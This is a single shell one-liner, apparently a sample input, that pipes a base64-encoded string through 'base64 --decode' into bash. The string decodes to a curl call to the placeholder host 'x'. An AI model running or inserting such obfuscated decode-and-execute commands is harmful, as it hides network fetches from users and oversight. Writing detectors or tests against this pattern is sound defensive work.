echo Y3VybCBodHRwOi8veA== | base64 --decode | bash
